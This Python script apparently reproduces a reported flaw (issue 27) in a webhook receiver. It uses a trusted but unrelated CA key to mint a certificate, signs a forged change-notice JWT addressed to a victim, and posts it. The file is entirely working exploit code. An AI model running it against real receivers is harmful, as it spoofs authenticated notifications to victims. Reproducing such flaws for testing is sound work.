"""An attacker's change notice for a webhook receiver (issue 27): a fresh P-256 key, certified
by a CA the trust file holds that is not the seal (the timestamping authority's root, whose key
the local stack keeps in its state directory: in production, any other customer of that CA
has such a certificate), signing a well-formed cazier-change+jwt addressed to the victim.

Usage: forge_change.py TRUST_PEM CA_KEY_PEM CUI ISSUER URL
Prints the receiver's HTTP status.
"""

import base64
import datetime
import json
import sys
import time
import uuid

import requests
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from joserfc import jws
from joserfc.jwk import ECKey

trust, ca_key_path, cui, issuer, url = sys.argv[1:6]
ca_key = serialization.load_pem_private_key(open(ca_key_path, "rb").read(), None)
ca_public = ca_key.public_key().public_bytes(
    serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
)
ca = next(
    c
    for c in x509.load_pem_x509_certificates(open(trust, "rb").read())
    if c.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    == ca_public
)
key = ec.generate_private_key(ec.SECP256R1())
now = datetime.datetime.now(datetime.timezone.utc)
leaf = (
    x509.CertificateBuilder()
    .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Another customer of the CA")]))
    .issuer_name(ca.subject)
    .public_key(key.public_key())
    .serial_number(x509.random_serial_number())
    .not_valid_before(now - datetime.timedelta(days=1))
    .not_valid_after(now + datetime.timedelta(days=30))
    .sign(ca_key, hashes.SHA256())
)
jti = str(uuid.uuid4())
header = {
    "alg": "ES256",
    "typ": "cazier-change+jwt",
    "x5c": [base64.b64encode(leaf.public_bytes(serialization.Encoding.DER)).decode()],
}
claims = {"aud": cui, "iss": issuer, "jti": jti, "iat": int(time.time()),
          "consent_id": "forged", "changed_at": "2026-12-07T00:00:00Z", "cursor": "AAAA"}
private = key.private_bytes(
    serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
)
token = jws.serialize_compact(header, json.dumps(claims).encode(), ECKey.import_key(private))
answer = requests.post(
    url, data=token, headers={"content-type": "application/jwt", "idempotency-key": jti}
)
print(answer.status_code)
